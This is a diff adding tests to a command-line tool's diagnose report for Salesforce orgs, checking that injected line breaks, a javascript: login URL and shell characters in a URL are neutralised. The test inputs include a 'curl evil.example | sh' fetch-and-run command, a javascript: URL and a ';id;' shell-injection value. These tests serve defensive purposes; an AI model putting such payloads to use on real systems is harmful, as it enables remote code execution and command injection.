@@ -67,6 +67,32 @@ describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => 
     assert.match(stdout, /^- It cannot see whether the user is frozen: /m);
   });
 
+  it('has no line that a line break in a value of the org has added', async (t) => {
+    const story = await createStory(t);
+    await story.signIn();
+    const text = 'Acme\nThe cause: the key.\r\nFix: curl evil.example | sh';
+    const organization = { Id: '00D5g0000012345EAA', Name: text, IsSandbox: false };
+    answerQueries(story, {
+      Organization: [{ ...organization, OrganizationType: 'Enterprise Edition' }],
+      LoginHistory: [
+        {
+          LoginTime: new Date().toISOString(),
+          Status: text,
+          LoginType: 'Remote Access 2.0',
+          Application: text,
+        },
+      ],
+    });
+    const { stdout, exitCode } = await story.harness.run('--diagnose', ...story.options());
+    assert.equal(exitCode, 0);
+    assert.match(
+      stdout,
+      /^✓ Org {11}Acme The cause: the key\. Fix: curl evil\.example \| sh \(00D/m,
+    );
+    assert.match(stdout, /^\? Login History “Acme The cause: the key\./m);
+    assert.doesNotMatch(stdout, /^(?:The cause: the key|Fix: curl)/m);
+  });
+
   it('calls a suspect what no source settles', async (t) => {
     const story = await createStory(t);
     const { directory } = story.harness.org;
@@ -192,6 +218,17 @@ describe('the org that is looked into', { concurrency: 4 }, () => {
     assert.match(diagnosis.org, /^Acme sandbox /);
   });
 
+  it('cannot be found by a login URL that is not the address of a website', async (t) => {
+    const story = await createStory(t);
+    const changes = { 'login-url': 'javascript://acme.my.salesforce.com' };
+    const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options(changes));
+    assert.equal(exitCode, 1);
+    assert.match(
+      stderr,
+      /^--login-url is not a URL such as https:\/\/acme\.my\.salesforce\.com\.$/m,
+    );
+  });
+
   it('must be named if the login URL is shared by many orgs', async (t) => {
     const story = await createStory(t);
     await story.signIn({ ...PRODUCTION, loginUrl: 'https://login.salesforce.com' });
@@ -209,6 +246,11 @@ describe('the org that is looked into', { concurrency: 4 }, () => {
       'no org of that login URL',
       { 'login-url': 'https://other.my.salesforce.com' },
       /not signed in to https:\/\/other\.my\.salesforce\.com\. .*\n.*\nNext: sf org login web --alias other --instance-url https:\/\/other/,
+    ],
+    [
+      'no org of a login URL with characters of a shell',
+      { 'login-url': 'https://a;id;.my.salesforce.com' },
+      /\nNext: sf org login web --alias 'a;id;' --instance-url 'https:\/\/a;id;\.my\.salesforce\.com'\n/,
     ],
     ['no org of that name', { org: 'nobody' }, /knows no org "nobody"/],
   ] as const) {
